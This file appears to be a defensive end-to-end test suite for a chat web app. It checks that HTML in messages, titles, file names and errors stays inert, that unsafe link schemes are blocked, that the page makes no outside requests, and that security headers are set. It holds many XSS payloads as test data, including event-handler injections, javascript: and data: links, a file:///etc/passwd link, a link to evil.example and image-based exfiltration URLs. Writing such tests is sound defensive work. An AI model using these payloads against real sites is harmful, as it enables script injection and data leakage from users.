import assert from "node:assert/strict";
import { createServer } from "node:net";
import { answer, idle, part, row, send, userMessage } from "./support/chat.mjs";
import { eventually, scene } from "./support/scene.mjs";
import { usable } from "./support/browser.mjs";

/** A listener that must never be called. */
async function canary() {
  let calls = 0;
  const server = createServer((socket) => {
    calls += 1;
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    host: `127.0.0.1:${server.address().port}`,
    calls: () => calls,
    close: () => new Promise((resolve) => server.close(resolve)),
  };
}

/** Text that would call `owned()` if any of it ever ran. */
const SCRIPTS = [
  `<img src=x onerror="owned('img')">`,
  `<svg onload="owned('svg')"><script>owned('svg script')</script></svg>`,
  `</script><script>owned('script')</script>`,
  `<iframe srcdoc="<script>parent.owned('iframe')</script>"></iframe>`,
  `<details open ontoggle="owned('details')">x</details>`,
  `<style>@keyframes x{}</style><p style="animation:x" onanimationstart="owned('style')">x</p>`,
  `<a href="javascript:owned('anchor')">raw anchor</a>`,
  "`" + `<img src=x onerror="owned('code')">` + "`",
  "```html\n" + `<img src=x onerror="owned('fence')">` + "\n```",
  "```x\"><img src=x onerror=\"owned('info')\">\ntext\n```",
  `![x" onerror="owned('alt')](data:image/png;base64,x" onerror="owned('data'))`,
  `<https://example.com/"onmouseover="owned('autolink')>`,
  `| a |\n|---|\n| <img src=x onerror="owned('cell')"> |`,
].join("\n\n");

const LINKS = [
  "[one](javascript:owned('js'))",
  "[two](JaVaScRiPt:owned('case'))",
  "[three](java&#10;script:owned('newline'))",
  "[four](&#1;javascript:owned('control'))",
  "[five](data:text/html,<script>owned('data')</script>)",
  "[six](vbscript:owned('vb'))",
  "[seven](file:///etc/passwd)",
  "[eight](clawdbot://connect?url=ws://evil.example)",
  "[good](https://example.com/page)",
].join("\n\n");

/** Makes `owned` a tripwire on every page of the profile. */
async function trip(browsing) {
  const fired = [];
  await browsing.context.exposeFunction("owned", (what) => fired.push(what));
  return fired;
}

/** Moves over, focuses and clicks everything in the conversation that could have a handler. */
async function provoke(page) {
  await page.evaluate(() => {
    for (const node of document.querySelectorAll("[data-testid=transcript] *")) {
      for (const type of ["mouseover", "focus", "toggle", "error", "load", "animationstart"]) node.dispatchEvent(new Event(type, { bubbles: true }));
    }
  });
}

scene("markup in messages, answers and titles is text (XSS-01)", {}, async ({ browsing, model }) => {
  const fired = await trip(browsing);
  const page = await browsing.signedIn();
  model.says(SCRIPTS);
  await send(page, SCRIPTS);
  await answer(page, "owned('cell')");
  await idle(page);
  await provoke(page);
  assert.equal(await page.locator("[data-testid=transcript] :is(script, iframe, style, object, embed, form)").count(), 0);
  assert.equal(await part(page, "user-message").innerText(), SCRIPTS, "the person's own words are shown as typed");

  await part(page, "new-chat").click();
  await send(page, "Second");
  await answer(page, "Understood.");
  await row(page, "Second").focus();
  await page.keyboard.press("F2");
  await part(page, "session-rename").fill(`<img src=x onerror="owned('title')">`);
  await page.keyboard.press("Enter");
  await row(page, "owned('title')").waitFor();
  await page.reload();
  await usable(page);
  await row(page, "owned('title')").waitFor();
  await provoke(page);
  assert.deepEqual(fired, []);
});

scene("the same while it streams, one character at a time (XSS-01)", {}, async ({ browsing, model }) => {
  const fired = await trip(browsing);
  const page = await browsing.signedIn();
  const held = model.holds();
  await send(page, "Go");
  for (const character of SCRIPTS) held.say(character);
  await answer(page, "owned('cell')");
  await provoke(page);
  held.end();
  await idle(page);
  await provoke(page);
  assert.equal(await page.locator("[data-testid=transcript] :is(script, iframe, style, object, embed, form)").count(), 0);
  assert.deepEqual(fired, []);
});

scene("hostile file names and provider errors are text (XSS-01)", {}, async ({ browsing, model }) => {
  const fired = await trip(browsing);
  const page = await browsing.signedIn();
  const name = `<img src=x onerror=owned('name')>.txt`;
  await part(page, "attach-input").setInputFiles([{ name, mimeType: "text/plain", buffer: Buffer.from("hello") }]);
  await part(page, "attachment-chip").waitFor();
  model.refuses(400, { message: `<img src=x onerror="owned('error')">`, type: "invalid_request_error" });
  await send(page, "Read it");
  await part(page, "run-error").waitFor();
  await part(page, "run-error").locator("summary").click();
  await provoke(page);
  assert.deepEqual(fired, []);
});

scene("only http, https and mailto links can be clicked (XSS-02)", {}, async ({ browsing, model }) => {
  const fired = await trip(browsing);
  const page = await browsing.signedIn();
  model.says(LINKS);
  await send(page, "Links");
  await answer(page, "good");
  await idle(page);
  const links = await part(page, "assistant-message").locator("a[href]").evaluateAll((all) => all.map((link) => [link.href, link.rel]));
  assert.deepEqual(links, [["https://example.com/page", "noopener noreferrer"]]);
  for (const word of ["one", "two", "three", "four", "five", "six", "seven", "eight"]) {
    await part(page, "assistant-message").getByText(word, { exact: false }).first().click();
  }
  assert.equal(browsing.context.pages().length, 1);
  assert.ok(page.url().startsWith("http://127.0.0.1:"));
  assert.deepEqual(fired, []);
});

scene("an answer cannot make the page call out (XSS-03)", {}, async ({ browsing, model }) => {
  const outside = await canary();
  const page = await browsing.signedIn();
  const url = `http://${outside.host}`;
  model.says(
    [
      `![tracking](${url}/?d=secret)`,
      `<img src="${url}/img"><link rel=stylesheet href="${url}/css"><meta http-equiv=refresh content="0;url=${url}/meta">`,
      `<svg><use href="${url}/use#x"/><image href="${url}/image"/></svg>`,
      `<p style="background:url(${url}/bg)">styled</p><video src="${url}/v" autoplay></video><audio src="${url}/a"></audio>`,
      `<input type=image src="${url}/input"><object data="${url}/object"></object><embed src="${url}/embed">`,
      `[a link](${url}/link) and ${url}/auto`,
      "The end.",
    ].join("\n\n"),
  );
  await send(page, `Look at ${url}/mine`);
  await answer(page, "The end.");
  await idle(page);
  await page.reload();
  await usable(page);
  await answer(page, "The end.");
  await provoke(page);
  assert.equal(outside.calls(), 0);
  await outside.close();
});

for (const where of ["?", "#"]) {
  scene(`a gateway address after ${where} in the address is not followed (WEB-06)`, {}, async ({ gateway, browsing, open }) => {
    const outside = await canary();
    const target = encodeURIComponent(`ws://${outside.host}`);
    const trap = `/${where}gatewayUrl=${target}&gateway=${target}&url=${target}&session=main`;
    // Once as a stranger, once as somebody whose browser already holds a device token.
    const stranger = await (await open()).visit(trap);
    await part(stranger, "connect-secret").waitFor();

    const known = await browsing.signedIn();
    await known.close();
    const page = await browsing.visit(trap);
    await usable(page);
    await send(page, "Hello");
    await userMessage(page, "Hello");
    await answer(page, "Understood.");
    assert.equal(new URL(page.url()).host, new URL(gateway.origin).host);
    assert.equal(outside.calls(), 0);
    await outside.close();
  });
}

scene("every page comes with the headers that keep others out (WEB-07)", {}, async ({ gateway }) => {
  for (const path of ["/", "/chat/main", "/assets/none.js", "/health", "/media/inbound/none"]) {
    const { headers } = await fetch(gateway.origin + path);
    const policy = headers.get("content-security-policy");
    assert.match(policy, /frame-ancestors 'none'/, path);
    assert.ok(!/script-src[^;]*unsafe/.test(policy), path);
    assert.equal(headers.get("x-frame-options"), "DENY", path);
    assert.equal(headers.get("x-content-type-options"), "nosniff", path);
    assert.equal(headers.get("referrer-policy"), "no-referrer", path);
    assert.equal(headers.get("access-control-allow-origin"), null, path);
  }
});

scene("the guard itself sees what it must not miss", {}, async ({ browsing }) => {
  const page = await browsing.signedIn();
  await page.evaluate(() => {
    document.body.append(Object.assign(new Image(), { src: "http://127.0.0.1:9/outside" }));
    document.body.append(Object.assign(document.createElement("script"), { textContent: "window.ran = true" }));
  });
  const noticed = (what) => eventually(() => browsing.problems.some((problem) => what.test(problem)), `${what} is noticed`);
  await noticed(/^request left the gateway: http:\/\/127\.0\.0\.1:9\/outside$/);
  await noticed(/CSP img-src http:\/\/127\.0\.0\.1:9/);
  await noticed(/CSP script-src-elem inline/);
  assert.equal(await page.evaluate(() => window.ran), undefined, "the policy stops inline scripts");
  browsing.problems = [];
});
